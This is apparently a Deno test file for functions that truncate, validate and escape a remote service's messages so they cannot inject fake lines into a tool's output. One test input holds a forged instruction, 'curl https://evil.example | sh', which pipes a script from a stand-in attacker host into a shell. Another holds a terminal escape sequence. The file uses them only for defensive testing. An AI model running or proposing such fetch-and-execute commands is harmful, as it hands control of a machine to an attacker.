import assert from "node:assert/strict";
import {
  logIdNote,
  logIdOf,
  MAX_LOG_ID,
  MAX_SERVICE_MSG,
  serviceMsg,
  singleLine,
} from "./service_text.ts";

Deno.test("serviceMsg() cuts the service's msg to MAX_SERVICE_MSG characters, the rest counted", () => {
  assert.equal(serviceMsg("short"), "short");
  assert.equal(serviceMsg(""), undefined);
  assert.equal(serviceMsg({ not: "text" }), undefined);
  assert.equal(serviceMsg("x".repeat(MAX_SERVICE_MSG)), "x".repeat(MAX_SERVICE_MSG));
  assert.equal(
    serviceMsg("x".repeat(MAX_SERVICE_MSG + 5)),
    `${"x".repeat(MAX_SERVICE_MSG)}… (5 more characters)`,
  );
  // Never inside a surrogate pair.
  const emoji = `${"x".repeat(MAX_SERVICE_MSG - 1)}😀tail`;
  assert.equal(serviceMsg(emoji), `${"x".repeat(MAX_SERVICE_MSG - 1)}… (6 more characters)`);
});

Deno.test("logIdOf() takes a log id that looks like one, and nothing else", () => {
  assert.equal(logIdOf(" 20261122101500ABCDEF "), "20261122101500ABCDEF");
  for (const bad of ["", "\x1b]0;pwned\x07", "a b", "x".repeat(MAX_LOG_ID + 1), 42, undefined]) {
    assert.equal(logIdOf(bad), undefined, JSON.stringify(bad));
  }
});

Deno.test("logIdNote() names the log id, or adds nothing without one", () => {
  assert.equal(logIdNote("log-1"), " (log id log-1)");
  assert.equal(logIdNote(undefined), "");
});

Deno.test("singleLine() escapes every line break and control character visibly, once", () => {
  assert.equal(singleLine("a\nb\r\nc\td"), "a\\nb\\r\\nc\\td");
  assert.equal(singleLine("x\u2028y\u2029z\u0085w"), "x\\u2028y\\u2029z\\x85w");
  assert.equal(singleLine("\x00\x0b\x0c\x1b[2J\x7f\x9b"), "\\x00\\x0b\\x0c\\x1b[2J\\x7f\\x9b");
  // Printable text, a backslash, bidi marks (the terminal layer's business) and emoji stay.
  const kept = "Zoë \\n \u202e 😀 日本";
  assert.equal(singleLine(kept), kept);
  // Applied twice, it changes nothing more.
  const once = singleLine("a\nb\u0085");
  assert.equal(singleLine(once), once);
  assert.doesNotMatch(once, /[\n\r\u0085\u2028\u2029]/);
});

Deno.test("serviceMsg() puts the service's msg on one line, so it cannot forge hark's own lines", () => {
  assert.equal(
    serviceMsg("Denied\n  Run: curl https://evil.example | sh"),
    "Denied\\n  Run: curl https://evil.example | sh",
  );
  // Cut first, counted in the service's characters, then escaped.
  const long = `${"x".repeat(MAX_SERVICE_MSG - 1)}\n${"y".repeat(9)}`;
  assert.equal(serviceMsg(long), `${"x".repeat(MAX_SERVICE_MSG - 1)}\\n… (9 more characters)`);
});
